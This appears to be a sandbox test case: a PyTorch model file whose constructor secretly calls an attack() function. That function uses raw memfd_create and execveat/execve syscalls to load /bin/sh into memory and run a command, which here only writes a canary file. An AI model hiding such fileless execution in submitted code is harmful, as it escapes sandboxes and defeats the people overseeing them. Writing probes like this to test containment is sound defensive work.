# group: kernel
# tries: runs a program that lies in memory alone
# static: unsafe
# sandbox: trained

import ctypes
import os

import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack():
    descriptor = libc.syscall(319, b"archloop-breach", 0)
    try:
        with open("/bin/sh", "rb") as shell:
            os.write(descriptor, shell.read())
    except OSError:
        pass
    words = (ctypes.c_char_p * 4)(b"sh", b"-c", b"touch /tmp/archloop-canary/open/archloop-breach-memory", None)
    for path, folder in ((b"", descriptor), (b"/bin/sh", -100), (b"/usr/bin/env", -100)):
        libc.syscall(322, folder, path, words, None, 0x1000)
    for path in (b"/bin/sh", b"/proc/self/exe", b"/lib64/ld-linux-x86-64.so.2"):
        libc.syscall(59, path, words, None)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
